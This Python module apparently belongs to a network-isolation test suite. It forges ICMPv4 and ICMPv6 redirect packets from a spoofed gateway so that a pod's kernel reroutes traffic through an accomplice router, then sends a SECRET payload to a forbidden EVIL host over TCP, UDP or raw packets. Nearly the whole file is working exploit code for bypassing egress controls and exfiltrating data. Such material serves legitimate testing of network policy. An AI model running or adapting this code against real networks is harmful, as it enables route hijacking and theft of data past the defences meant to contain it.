"""A router of the accomplice's that tells the pod of a better way there (ICMP redirects, RFC 792 and RFC 4861 §8). Where a packet goes
next is not where it goes to."""

import struct
import time

from attack import *

ADMIN = ["net_admin"]
# Of the accomplice, too.
ROUTER4 = "10.77.0.9"


def link_local(of):
    """The address that Linux makes of a MAC address."""
    return socket.inet_ntop(socket.AF_INET6, packed("fe80::")[:8] + bytes([of[0] ^ 2]) + of[1:3] + b"\xff\xfe" + of[3:])


def again_and_again(packet):
    """The first may only have the pod ask who that router is."""
    for _ in range(30):
        attempt(lambda: send_raw(packet, device="eth0"))
        time.sleep(0.1)


def redirecting4():
    command("ip", "addr", "replace", ROUTER4 + "/24", "dev", "eth0")
    # An echo reply: of what else it quotes Linux looks for a socket that has sent it.
    quoted = ip4(POD4, EVIL4, 1, echo_request(POD4, EVIL4, b"", kind=0))
    message = struct.pack("!BBH", 5, 1, 0) + packed(ROUTER4) + quoted
    message = message[:2] + struct.pack("!H", checksum(message)) + message[4:]
    again_and_again(ip4(GATEWAY4, POD4, 1, message))


def redirecting6():
    message = struct.pack("!BBHI", 137, 0, 0, 0) + packed(EVIL6) * 2 + b"\x02\x01" + mac()
    router = link_local(mac())
    again_and_again(ip6(router, POD6, 58, with_checksum(58, router, POD6, message, 2), hops=255))


def when_redirected(address, is_redirected):
    """Sends there once the pod's kernel believes the router."""
    for _ in range(30):
        if is_redirected(command("ip", "route", "get", address)):
            break
        time.sleep(0.1)
    else:
        raise OSError("it is not redirected: " + command("ip", "route", "get", address).strip())
    attempt(lambda: tcp(address), lambda: udp(address), lambda: send_raw(packet_to(address)))


def packet_to(address):
    if ":" in address:
        return ip6(POD6, address, 17, udp_segment(POD6, address, 5000, 123, SECRET))
    return ip4(POD4, address, 17, udp_segment(POD4, address, 5000, 123, SECRET))


@way(caps=["net_raw"], helper=redirecting4)
def by_another_router():
    """What is sent to where nothing may be sent, by a way that a redirect has opened."""
    when_redirected(EVIL4, lambda route: ROUTER4 in route)


@way(caps=ADMIN + ["net_raw"], helper=redirecting6)
def onto_the_link():
    """The same over IPv6: what is there is said to be a neighbour."""
    ip("-6", "route", "replace", EVIL6 + "/128", "via", link_local(gateway_mac()), "dev", "eth0")
    try:
        when_redirected(EVIL6, lambda route: "via" not in route)
    finally:
        ip("-6", "route", "flush", EVIL6 + "/128")
